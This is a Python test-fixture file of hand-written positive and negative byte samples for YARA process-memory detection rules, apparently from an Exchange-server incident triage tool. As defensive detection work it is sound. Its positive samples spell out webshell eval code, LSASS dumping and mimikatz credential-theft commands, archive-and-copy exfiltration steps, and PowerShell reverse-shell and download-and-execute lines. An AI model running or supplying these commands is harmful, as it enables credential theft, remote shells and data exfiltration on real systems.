"""Positive and negative samples for every rule in signatures/yara/memory, keyed by the rules' ``id`` meta.

The memory analyzer compiles these rules apart from the file rules (analyzers/memory/yararules.py), so their
samples live apart from tests/analyzers/yara/yara_support.py's ``SAMPLES`` too; the conformance test reads both.
Written by hand: inert bytes with the shape of what a process-memory region could hold (command lines and .NET
strings as UTF-16LE, page source and log lines as ASCII), and near misses a busy Exchange server really holds.
Every rule has at least one of each. Standard library only: the conformance test loads this file by path.
"""

from __future__ import annotations

import struct


def _wide(text: str) -> bytes:
    """UTF-16LE, as Windows keeps process parameters and .NET keeps strings."""
    return text.encode("utf-16-le")


def _mdmp_header(streams: int = 3, version: int = 0xA793, rva: int = 0x20) -> bytes:
    """MINIDUMP_HEADER: signature, version (implementation word above), stream count, directory RVA, etc."""
    return struct.pack("<4sIIIIIQ", b"MDMP", version | (0x0A61 << 16), streams, rva, 0, 0x6040A2B1, 0x1826)


def _in_page(data: bytes, at: int = 0x200) -> bytes:
    """``data`` somewhere inside a zero-filled page, as a raw region scan sees it."""
    return bytes(at) + data + bytes(0x1000 - at - len(data) % 0x1000)


MEMORY_SAMPLES: dict[str, dict[str, list[bytes]]] = {
    # webshell_code.yar
    "TRIAGE-YARA-MEM-001": {
        "positive": [
            b'<%@ Page Language="Jscript"%><%eval(Request.Item["q7"],"unsafe");%>',
            _wide('<script language="JScript" runat="server">eval( Request [ "zz" ] , "unsafe" )</script>'),
            b'<%@ Page Language=Jscript %> <% eval(Request.Form["k"]) %>',
        ],
        "negative": [
            b'<%@ Page Language="JScript"%><% var total = eval("2*21"); Response.Write(Request["n"]); %>',
            _wide('<%@ Page Language="C#" %><% Response.Write(Server.HtmlEncode(Request["name"])); %>'),
            b'function check(){ return eval(document.forms[0].elements.length) > 0; } // "unsafe" inline',
        ],
    },
    "TRIAGE-YARA-MEM-002": {
        "positive": [
            b'using (var w = new System.IO.StreamWriter(Request.Form["p"])) { w.Write(Request.Form["c"]); }',
            _wide(
                'System.IO.File.WriteAllBytes(Request.QueryString["f"], Convert.FromBase64String(Request.Form["d"]));'
            ),
        ],
        "negative": [
            b'var log = new System.IO.StreamWriter(logPath, true); log.WriteLine(Request.Form["user"]);',
            _wide('File.WriteAllBytes(Server.MapPath("~/App_Data/cache.bin"), payloadFromDatabase);'),
        ],
    },
    "TRIAGE-YARA-MEM-003": {
        "positive": [
            _wide(
                "Set-OabVirtualDirectory -Identity 'EX01\\OAB (Default Web Site)' -ExternalUrl "
                '\'http://x/<script language="JScript" runat="server">function Page_Load(){}</script>\''
            ),
            b'ExternalUrl        : http://g/<script Language="c#" runat="server">void Page_Load(){}</script>',
            b"2021-03-03T04:11:09Z,S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://q/'.Identity='OAB'",
        ],
        "negative": [
            _wide(
                "Set-OabVirtualDirectory -Identity 'EX01\\OAB (Default Web Site)' "
                "-ExternalUrl 'https://mail.example.org/OAB'"
            ),
            b"S:CMD=Get-OabVirtualDirectory.Identity='EX01\\OAB (Default Web Site)'",
            b'<script src="https://mail.example.org/owa/scripts/boot.js" type="text/javascript"></script>',
        ],
    },
    "TRIAGE-YARA-MEM-004": {
        "positive": [
            b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<!-- Georg says, 'All seems fine' -->",
            _wide(
                'String cmd = Request.Headers.Get("X-CMD"); String t = Request.Headers.Get("X-TARGET"); '
                'Response.AddHeader("X-STATUS", "OK");'
            ),
        ],
        "negative": [
            b"HTTP/1.1 200 OK\r\nX-STATUS: healthy\r\nX-TARGET: backend-02\r\nX-FEServer: EX01\r\n\r\n",
            _wide("Georg says hello from the help desk; all seems fine here"),
        ],
    },
    # credential_access.yar
    "TRIAGE-YARA-MEM-010": {
        "positive": [
            _wide('"C:\\Tools\\procdump64.exe" -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp'),
            b"rundll32.exe C:\\Windows\\System32\\comsvcs.dll MiniDump 712 C:\\Users\\Public\\d.bin full",
            _wide("rundll32 comsvcs.dll, #24 808 C:\\PerfLogs\\x.tmp full"),
            _wide("rdrleakdiag.exe /p 640 /o C:\\PerfLogs\\ /fullmemdmp /wait 1"),
            b"procdump lsass.exe C:\\windows\\temp\\lsass.dmp",
            b"Out-Minidump -Process (Get-Process lsass) -DumpFilePath C:\\ProgramData",
        ],
        "negative": [
            _wide("C:\\Tools\\procdump64.exe -accepteula -ma w3wp.exe C:\\dumps\\w3wp.dmp"),
            _wide("C:\\Windows\\System32\\comsvcs.dll"),
            b'tasklist /fi "imagename eq lsass.exe" /v',
            _wide("rdrleakdiag.exe /?"),
        ],
    },
    "TRIAGE-YARA-MEM-011": {
        "positive": [
            b"mimikatz(commandline) # privilege::debug\r\nmimikatz(commandline) # sekurlsa::logonpasswords",
            _wide("lsadump::dcsync /domain:corp.example /user:krbtgt") + bytes(64) + _wide("gentilkiwi"),
            b"SEKURLSA::MINIDUMP C:\\PerfLogs\\l.dmp\nsekurlsa::LogonPasswords full",
        ],
        "negative": [
            b"Defender quarantined mimikatz.exe; hunting guide: look for mimikatz.exe in C:\\Users\\Public",
            _wide("SeDebugPrivilege enabled for services.exe (privilege::debug is a console command elsewhere)"),
        ],
    },
    # minidump.yar
    "TRIAGE-YARA-MEM-012": {
        "positive": [
            _in_page(_mdmp_header()),
            _mdmp_header(streams=17) + bytes(0x20) + _wide("C:\\Windows\\System32\\lsass.exe"),
        ],
        "negative": [
            _in_page(_mdmp_header(version=0xA792)),  # not the minidump version word
            _in_page(_mdmp_header(streams=0x1234)),  # a stream count no dump has
            _in_page(_mdmp_header(rva=0x40)),  # directory not right after the header
            b"PAGEDU64" + bytes(0x28) + b"MDMP is the user-mode dump signature; this is a kernel dump",
        ],
    },
    # post_exploitation.yar
    "TRIAGE-YARA-MEM-020": {
        "positive": [
            _wide("C:\\ProgramData\\rar.exe a -m5 -hpX C:\\ProgramData\\mail.rar C:\\ProgramData\\export\\*.pst"),
            b'"C:\\Program Files\\7-Zip\\7z.exe" a -mx9 C:\\ProgramData\\out.7z C:\\inetpub\\logs\\LogFiles',
            _wide("copy C:\\ProgramData\\it.zip \\\\198.51.100.20\\share$\\"),
        ],
        "negative": [
            _wide("C:\\ProgramData\\7z.exe x C:\\ProgramData\\update.zip -oC:\\ProgramData\\upd -y"),
            b"7z.exe a C:\\Backups\\iis-logs.7z D:\\Logs\\W3SVC1\\*.log",
        ],
    },
    "TRIAGE-YARA-MEM-021": {
        "positive": [
            b"Invoke-PowerShellTcp -Reverse -IPAddress 198.51.100.4 -Port 4444",
            _wide('$c = New-Object Net.Sockets.TCPClient("203.0.113.9", 8443); $s = $c.GetStream()'),
            b"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.5/powercat.ps1'); "
            b"powercat -c 192.0.2.5 -p 443",
        ],
        "negative": [
            b"$l = New-Object System.Net.Sockets.TcpListener([System.Net.IPAddress]::Any, 8080); $l.Start()",
            _wide("$c = New-Object System.Net.Sockets.TcpClient; $c.Connect($smtpHost, 25); $c.Close()"),
            b"Test-NetConnection -ComputerName mail.example.org -Port 443",
        ],
    },
}

__all__ = ["MEMORY_SAMPLES"]
